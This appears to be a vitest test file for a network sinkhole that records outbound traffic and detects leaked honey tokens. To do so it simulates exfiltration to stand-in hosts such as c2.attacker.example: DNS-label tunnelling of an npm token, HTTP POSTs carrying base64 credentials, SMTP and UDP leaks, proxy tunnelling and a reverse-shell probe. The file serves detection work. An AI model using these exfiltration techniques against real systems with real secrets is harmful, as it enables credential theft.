import { Resolver } from 'node:dns/promises'
import { createSocket } from 'node:dgram'
import { request as http } from 'node:http'
import { connect as http2 } from 'node:http2'
import { request as https } from 'node:https'
import { connect, type Socket } from 'node:net'
import { connect as tls } from 'node:tls'
import { describe, expect, it } from 'vitest'
import { sinkhole, token } from './testing.ts'

interface Got { status: number; headers: Record<string, unknown>; body: string }

function ask(port: number, options: Record<string, unknown>, body = '', secure = false): Promise<Got> {
  return new Promise((resolve, reject) => {
    const request = (secure ? https : http)({ host: '127.0.0.1', port, agent: false, ...options }, (response) => {
      const parts: Buffer[] = []
      response.on('data', (part: Buffer) => parts.push(part)).on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: Buffer.concat(parts).toString() }))
    })
    request.on('error', reject)
    request.end(body)
  })
}

/** Says things one after another, each after something came back. */
async function dialogue(port: number, words: readonly (string | Buffer)[], first = true): Promise<{ heard: string; socket: Socket }> {
  const socket = connect(port, '127.0.0.1')
  let heard = ''
  const next = (): Promise<void> => new Promise((resolve) => socket.once('data', (chunk: Buffer) => {
    heard += chunk.toString('latin1')
    resolve()
  }))
  if (first) await next()
  for (const word of words) {
    const answer = next()
    socket.write(word)
    await answer
  }
  return { heard, socket }
}

describe('names', () => {
  it('gives every name an address of its own, and knows it again', async () => {
    const { dns, until, seen } = await sinkhole()
    const resolver = new Resolver()
    resolver.setServers([`127.0.0.1:${dns}`])
    const [[one = ''], [two = ''], [again = '']] = [await resolver.resolve4('c2.attacker.example'), await resolver.resolve4('other.example'), await resolver.resolve4('C2.attacker.example')]
    expect(one).toMatch(/^198\.1[89]\./)
    expect(two).not.toBe(one)
    expect(again).toBe(one)
    expect(await resolver.reverse(one)).toEqual(['c2.attacker.example'])
    const [six = ''] = await resolver.resolve6('c2.attacker.example')
    expect(await resolver.reverse(six)).toEqual(['c2.attacker.example'])
    expect((await resolver.resolveTxt('c2.attacker.example'))[0]).toHaveLength(1)
    expect((await resolver.resolveMx('c2.attacker.example'))[0]?.exchange).toBe('mail.c2.attacker.example')
    expect(await resolver.resolveCname('c2.attacker.example')).toEqual(['edge.c2.attacker.example'])
    expect((await resolver.resolveSrv('_x._tcp.c2.attacker.example'))[0]?.port).toBe(443)
    expect((await until('dns')).answers).toEqual([one])
    expect(seen.filter(({ kind }) => kind === 'dns')).toHaveLength(10)
  })

  it('finds a secret that leaves in labels, over several questions', async () => {
    const { dns, until } = await sinkhole()
    const resolver = new Resolver()
    resolver.setServers([`127.0.0.1:${dns}`])
    const hex = Buffer.from(token('npm-token')).toString('hex')
    for (const part of hex.match(/.{1,20}/g) as string[]) await resolver.resolve4(`${part}.t.attacker.example`)
    const { honey } = await until('dns', (seen) => seen.honey.length > 0)
    expect(honey[0]).toMatchObject({ token: 'npm-token', where: 'name' })
    expect(honey[0]?.encodings).toContain('hex')
  })
})

describe('HTTP', () => {
  it('is told from the first bytes and recorded with what was sent', async () => {
    const { port, until } = await sinkhole()
    const body = JSON.stringify({ env: Buffer.from(token('github-token')).toString('base64') })
    const got = await ask(port, { method: 'POST', path: `/collect?id=7`, headers: { host: 'c2.attacker.example:8080', 'x-key': token('openai-key') } }, body)
    expect(got.status).toBe(200)
    const seen = await until('http')
    expect(seen).toMatchObject({ method: 'POST', url: 'http://c2.attacker.example:8080/collect?id=7', name: 'c2.attacker.example', tls: false, status: 200, malformed: null })
    expect(seen.body?.size).toBe(body.length)
    expect(Buffer.from(seen.body?.sample ?? '', 'base64').toString()).toBe(body)
    expect(seen.honey).toEqual(expect.arrayContaining([
      { token: 'openai-key', encodings: [], where: 'header' }, { token: 'github-token', encodings: ['base64'], where: 'body' },
    ]))
  })

  it('tells a token that goes to the registry it opens from the same one anywhere else', async () => {
    let to = { address: '', port: 443 }
    const { port, dns, until, sinkhole: { authority } } = await sinkhole({ registries: [{ ecosystem: 'npm', url: 'https://registry.example/npm/' }] }, () => to)
    const resolver = new Resolver()
    resolver.setServers([`127.0.0.1:${dns}`])
    const [[registry = ''], [drop = '']] = [await resolver.resolve4('registry.example'), await resolver.resolve4('drop.example')]
    const told = async (path: string, headers: Record<string, string> = {}, { address = registry, secret = 'npm-token' } = {}): Promise<string[]> => {
      to = { address, port: 443 }
      await ask(port, { path, servername: 'registry.example', ca: authority, headers: { host: 'registry.example', authorization: `Bearer ${token(secret)}`, ...headers } }, '', true)
      return (await until('http', ({ url }) => url.endsWith(path))).honey.map(({ where }) => where)
    }
    expect(await told('/npm/left-pad')).toEqual(['authorization'])
    expect(await told('/npm/left-pad-2', { 'x-token': token('npm-token') })).toEqual(['header', 'authorization'])
    expect(await told('/npm/left-pad-3', { host: 'registry.example.drop.example' })).toEqual(['header'])
    expect(await told('/pypi/left-pad')).toEqual(['header'])
    expect(await told('/npm/left-pad-4', {}, { secret: 'github-token' })).toEqual(['header'])
    // The request says so, but another name's address was called, or one that no name has.
    expect(await told('/npm/left-pad-5', {}, { address: drop })).toEqual(['header'])
    expect(await told('/npm/left-pad-6', {}, { address: '203.0.113.9' })).toEqual(['header'])
  })

  it('is spoken over TLS under every name, by a certificate that clients with our authority take', async () => {
    const { port, until, sinkhole: { authority } } = await sinkhole()
    const got = await ask(port, { path: '/a.json', servername: 'api.attacker.example', ca: authority, headers: { host: 'api.attacker.example' } }, '', true)
    expect(JSON.parse(got.body)).toMatchObject({ ok: true })
    expect(await until('http')).toMatchObject({ url: 'https://api.attacker.example/a.json', tls: true })
    expect(await until('tls')).toMatchObject({ sni: 'api.attacker.example', refused: null })
  })

  it('hangs up soon where nothing is under way, so that whoever reads no answer can end', async () => {
    const { port } = await sinkhole()
    const socket = connect(port, '127.0.0.1')
    const heard = Array.fromAsync(socket.setEncoding('utf8'))
    socket.write('GET / HTTP/1.1\r\nhost: telemetry.example\r\n\r\n')
    expect((await heard).join('')).toMatch(/^HTTP\/1\.1 200[^]*keep-alive: timeout=\d\r\n/i)
    const session = http2(`http://127.0.0.1:${port}`)
    session.request({ ':path': '/' }).resume().end()
    await new Promise((resolve) => session.on('close', resolve))
  })

  it('keeps the name of a handshake whose certificate was refused', async () => {
    const { port, until } = await sinkhole()
    await expect(ask(port, { servername: 'pinned.attacker.example' }, '', true)).rejects.toThrow(/certificate|issuer/)
    const seen = await until('tls')
    expect(seen).toMatchObject({ sni: 'pinned.attacker.example' })
    expect(seen.refused).not.toBeNull()
  })

  it('is HTTP/2 for who speaks nothing else, with and without TLS', async () => {
    const { port, until, sinkhole: { authority } } = await sinkhole()
    for (const url of [`https://127.0.0.1:${port}`, `http://127.0.0.1:${port}`]) {
      const session = http2(url, { ca: authority, servername: 'h2.attacker.example' })
      const stream = session.request({ ':path': `/two?${url.length}`, ':method': 'POST' })
      stream.end('hello')
      const status = await new Promise((resolve, reject) => stream.on('response', (headers) => resolve(headers[':status'])).on('error', reject))
      expect(status).toBe(200)
      session.destroy()
      expect(await until('http', (seen) => seen.url.endsWith(`/two?${url.length}`))).toMatchObject({ method: 'POST', body: { size: 5 } })
    }
  })

  it('goes on through proxies: CONNECT, SOCKS 5, SOCKS 4a', async () => {
    const { port, until } = await sinkhole()
    const starts: [string, (string | Buffer)[]][] = [
      ['connect', ['CONNECT deep.attacker.example:4444 HTTP/1.1\r\nHost: deep.attacker.example\r\n\r\n']],
      ['socks5', [Buffer.from([5, 1, 0]), Buffer.concat([Buffer.from([5, 1, 0, 3, 21]), Buffer.from('deep.attacker.example'), Buffer.from([0x11, 0x5c])])]],
      ['socks4', [Buffer.concat([Buffer.from([4, 1, 0x11, 0x5c, 0, 0, 0, 1]), Buffer.from('u\0deep.attacker.example\0')])]],
    ]
    for (const [proxy, words] of starts) {
      const { heard, socket } = await dialogue(port, [...words, `GET /${proxy} HTTP/1.1\r\nHost: deep.attacker.example:4444\r\n\r\n`], false)
      expect(heard).toContain('HTTP/1.1 200')
      socket.destroy()
      expect(await until('http', (seen) => seen.url.endsWith(`/${proxy}`))).toMatchObject({ proxy, to: { address: 'deep.attacker.example', port: 4444 }, name: 'deep.attacker.example' })
    }
  })

  it('takes what is said over a WebSocket', async () => {
    const { port, until } = await sinkhole()
    const socket = new WebSocket(`ws://127.0.0.1:${port}/ws`)
    await new Promise((resolve) => socket.addEventListener('open', resolve))
    socket.send(`token=${token('npm-token')}`)
    socket.close()
    const seen = await until('tcp')
    expect(seen).toMatchObject({ protocol: 'websocket', honey: [{ token: 'npm-token', encodings: [], where: 'body' }] })
  })
})

describe('anything else', () => {
  it('is greeted where its port has a protocol, and may send mail', async () => {
    const { port, until } = await sinkhole({}, () => ({ address: '198.18.9.9', port: 25 }))
    const { heard, socket } = await dialogue(port, ['EHLO me\r\n', 'MAIL FROM:<a@b.example>\r\n', 'RCPT TO:<c@d.example>\r\n', 'DATA\r\n', `Subject: x\r\n\r\n${token('aws-secret-key')}\r\n.\r\n`])
    expect(heard).toMatch(/^220 .*354 .*queued/s)
    socket.end()
    expect(await until('tcp')).toMatchObject({ protocol: 'smtp', to: { address: '198.18.9.9', port: 25 }, honey: [{ token: 'aws-secret-key' }] })
  })

  it('is asked who it is when it waits, and known as a shell by its answer', async () => {
    const { port, until } = await sinkhole()
    const socket = connect(port, '127.0.0.1')
    socket.on('data', (chunk: Buffer) => socket.end(chunk.toString() === 'id\n' ? 'uid=1000(dev) gid=1000(dev)\n' : ''))
    expect(await until('tcp')).toMatchObject({ protocol: 'shell', says: 'a shell answers commands' })
  })

  it('is recorded as it is, over TCP, over TLS and over UDP', async () => {
    const { port, udp, until, sinkhole: { authority } } = await sinkhole()
    connect(port, '127.0.0.1').end(Buffer.concat([Buffer.from([0, 1, 2, 3]), Buffer.from(token('stripe-key'))]))
    expect(await until('tcp')).toMatchObject({ protocol: 'raw', tls: false, honey: [{ token: 'stripe-key' }] })
    const secure = tls({ port, host: '127.0.0.1', servername: 'raw.attacker.example', ca: authority }, () => secure.end('\u0001binary words'))
    expect(await until('tcp', (seen) => seen.tls)).toMatchObject({ name: 'raw.attacker.example', received: { size: 13 } })
    const socket = createSocket('udp4')
    socket.send(token('slack-bot-token'), udp, '127.0.0.1')
    expect(await until('udp')).toMatchObject({ honey: [{ token: 'slack-bot-token', encodings: [], where: 'body' }] })
    const time = Buffer.alloc(48, 0)
    time[0] = 0x1b
    const answer = new Promise<Buffer>((resolve) => socket.once('message', resolve))
    socket.send(time, udp, '127.0.0.1')
    expect((await answer).readUInt32BE(40) - 2_208_988_800).toBeCloseTo(Date.now() / 1_000, -2)
    socket.close()
  })

  it('that was begun and cut off is recorded when all is settled', async () => {
    const { port, seen, sinkhole: { settle } } = await sinkhole()
    const { socket } = await dialogue(port, ['POST /half HTTP/1.1\r\nHost: a.example\r\nContent-Length: 100\r\nExpect: 100-continue\r\n\r\n'], false)
    socket.on('error', () => undefined).write('half')
    await settle()
    expect(seen[0]).toMatchObject({ kind: 'http', url: 'http://a.example/half', malformed: 'the client went away before its end' })
  })
})
